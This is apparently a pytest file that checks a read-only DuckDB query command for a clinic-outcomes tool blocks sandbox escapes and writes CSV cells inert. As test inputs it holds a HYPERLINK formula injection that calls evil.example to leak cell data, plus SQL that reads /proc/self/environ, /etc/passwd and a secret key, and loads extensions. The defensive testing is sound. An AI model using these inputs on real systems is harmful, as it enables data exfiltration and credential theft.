"""`clinic-outcomes query` reads the warehouse and nothing else, writes nothing anywhere (interface.md).

Every escape below fails with DuckDB's whole error message (hints and the caret line, not just the first
line); the patient-key secret is out of reach; CSV output is inert in a spreadsheet.

Mutants tried (each made a test here fail):
- `enable_external_access` True in QUERY_CONFIG: COPY TO, EXPORT DATABASE and ATTACH of another file work;
- `set lock_configuration = true` removed: `SET threads`, `SET enable_external_access` and PRAGMA succeed;
- (extensions cannot download on these machines, so INSTALL/LOAD fail either way offline: the autoload and
  autoinstall settings are asserted by test_the_connection_is_locked_down instead);
- `return _fail(str(exc).strip())` -> `str(exc).splitlines()[0]` in cli.cmd_query: the hint test fails;
- pattern `^[=+\\-@\t\r]` -> `^[=+@]`: the `-`, tab and CR cells are written live;
- `os.environ.pop(KEY_ENV, None)` removed from cmd_query: the subprocess test sees the key in os.environ.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import duckdb
import pytest

from clinic_outcomes import cli
from clinic_outcomes.query import QUERY_CONFIG, connect_read_only, format_result, run_query

KEY = "query-test-key-4c1b9e7f0a2d"


@pytest.fixture(scope="module")
def warehouse(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("query") / "warehouse.duckdb"
    con = duckdb.connect(str(path))
    con.execute("create schema core")
    con.execute(
        """
        create table core.cells as select * from (values
            (1, '=HYPERLINK("http://evil.example/?"&A1, "x")', -3, ['a', 'b']),
            (2, '+1+1', 4, []),
            (3, '-2+3', null, null),
            (4, '@SUM(A1:A2)', 5, ['c']),
            (5, e'\\tcmd', 6, null),
            (6, e'\\rcmd', 7, null),
            (7, 'plain = text', 8, null),
            (8, null, 9, null),
            (9, e'bidi \u202e gnp.exe', 10, null)
        ) as t(id, text, number, list)
        """
    )
    con.close()
    return path


def _query(warehouse: Path, sql: str, fmt: str = "table", env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "clinic_outcomes.cli", "query", "--warehouse", str(warehouse), sql, "--format", fmt],
        capture_output=True, text=True, timeout=120, env={**os.environ, **(env or {})},
    )


ESCAPES = {
    "copy_to": ("copy core.cells to '{out}/cells.csv'", "Permission Error: Cannot access file"),
    "export_database": ("export database '{out}/export'", "Permission Error: Cannot access file"),
    "attach_other_file": ("attach '{out}/other.duckdb' as other (read_write)", "Permission Error"),
    "attach_itself_read_write": ("attach '{warehouse}' as again (read_write)", "Error"),
    "install": ("install httpfs", "Permission Error"),
    "load": ("load httpfs", "Permission Error: Loading external extensions is disabled"),
    "read_environ": ("select * from read_text('/proc/self/environ')", "Permission Error: Cannot access file \"/proc/self/environ\""),
    "read_csv": ("select * from read_csv('/etc/passwd')", "Permission Error: Cannot access file \"/etc/passwd\""),
    "read_csv_of_the_warehouse_folder": ("select * from read_csv('{out}/*.csv')", "Permission Error"),
    "glob": ("select * from glob('/tmp/*')", "Permission Error"),
    "set_setting": ("set threads = 1", "the configuration has been locked"),
    "unlock": ("set enable_external_access = true", "the configuration has been locked"),
    "pragma": ("pragma enable_profiling", "the configuration has been locked"),
    "getenv": ("select getenv('CLINIC_OUTCOMES_KEY')", "Catalog Error"),
    "current_setting_of_the_key": ("select current_setting('CLINIC_OUTCOMES_KEY')", "unrecognized configuration parameter"),
    "write": ("create table core.x as select 1", "read-only"),
}


@pytest.mark.parametrize("case", ESCAPES)
def test_every_escape_fails(warehouse, tmp_path, case):
    sql, expected = ESCAPES[case]
    sql = sql.format(out=tmp_path, warehouse=warehouse)
    with pytest.raises(duckdb.Error) as failure:
        run_query(warehouse, sql)
    assert expected in str(failure.value)
    assert list(tmp_path.iterdir()) == []  # nothing written


def test_the_command_prints_duckdbs_whole_message_with_its_hints(warehouse):
    done = _query(warehouse, "select * from read_text('/proc/self/environ')")
    assert done.returncode == 1
    assert "Permission Error: Cannot access file" in done.stderr
    done = _query(warehouse, "select getenv('CLINIC_OUTCOMES_KEY')")
    message = done.stderr[done.stderr.index("clinic-outcomes: "):].splitlines()
    assert message[0] == "clinic-outcomes: Catalog Error: Scalar Function with name getenv does not exist!"
    assert message[1].startswith("Did you mean")  # DuckDB's hint, on the next line
    assert done.stdout == ""


def test_the_key_is_not_reachable_from_a_query(warehouse):
    env = {"CLINIC_OUTCOMES_KEY": KEY}
    every_setting = _query(warehouse, "select name, value from duckdb_settings()", "csv", env)
    assert every_setting.returncode == 0
    assert KEY not in every_setting.stdout
    for sql in ("select getenv('CLINIC_OUTCOMES_KEY')", "select current_setting('CLINIC_OUTCOMES_KEY')",
                "select * from read_text('/proc/self/environ')"):
        done = _query(warehouse, sql, env=env)
        assert done.returncode == 1 and KEY not in done.stdout + done.stderr, sql


def test_the_command_drops_the_key_from_its_environment(warehouse, monkeypatch, capsys):
    monkeypatch.setenv("CLINIC_OUTCOMES_KEY", KEY)
    assert cli.main(["query", "--warehouse", str(warehouse), "select 1 as one"]) == 0
    assert "CLINIC_OUTCOMES_KEY" not in os.environ


def test_the_connection_is_locked_down(warehouse):
    con = connect_read_only(warehouse)
    try:
        settings = dict(con.execute(
            "select name, value from duckdb_settings() where name in "
            "('enable_external_access', 'lock_configuration', 'autoinstall_known_extensions', "
            "'autoload_known_extensions', 'allow_community_extensions', 'temp_directory', 'access_mode')"
        ).fetchall())
    finally:
        con.close()
    assert settings == {
        "enable_external_access": "false",
        "lock_configuration": "true",
        "autoinstall_known_extensions": "false",
        "autoload_known_extensions": "false",
        "allow_community_extensions": "false",
        "temp_directory": "",
        "access_mode": "read_only",
    }
    assert run_query(warehouse, "select current_setting('TimeZone') as tz").to_pylist() == [{"tz": "UTC"}]
    assert "lock_configuration" not in QUERY_CONFIG  # set after TimeZone, by connect_read_only


def test_reading_the_warehouse_still_works(warehouse):
    assert run_query(warehouse, "select count(*) as n from core.cells").to_pylist() == [{"n": 9}]


# id -> the text cell as written to CSV
INERT = {
    1: '\'=HYPERLINK("http://evil.example/?"&A1, "x")',
    2: "'+1+1",
    3: "'-2+3",
    4: "'@SUM(A1:A2)",
    5: "'\tcmd",
    6: "'\rcmd",
    7: "plain = text",
    8: "",
    9: "bidi \u202e gnp.exe",
}


def test_csv_cells_a_spreadsheet_would_run_are_written_inert(warehouse):
    text = format_result(run_query(warehouse, "select id, text, number, list from core.cells order by id"), "csv")
    got = list(csv.DictReader(io.StringIO(text, newline="")))
    assert {int(r["id"]): r["text"] for r in got} == INERT
    assert [r["number"] for r in got] == ["-3", "4", "", "5", "6", "7", "8", "9", "10"]  # numbers stay numbers
    assert [r["list"] for r in got][:3] == ['["a", "b"]', "[]", ""]


def test_the_help_says_csv_cells_are_written_inert(capsys):
    with pytest.raises(SystemExit):
        cli.main(["query", "--help"])
    assert "leading '" in " ".join(capsys.readouterr().out.split())


def test_table_output_shows_control_characters_escaped(warehouse):
    text = format_result(run_query(warehouse, "select text from core.cells where id in (5, 9) order by id"), "table")
    assert "\u202e" not in text and "\t" not in text
    assert "<U+202E>" in text and "<U+0009>" in text


def test_json_output_keeps_values(warehouse):
    got = json.loads(format_result(run_query(warehouse, "select id, text from core.cells where id = 2"), "json"))
    assert got == [{"id": 2, "text": "+1+1"}]
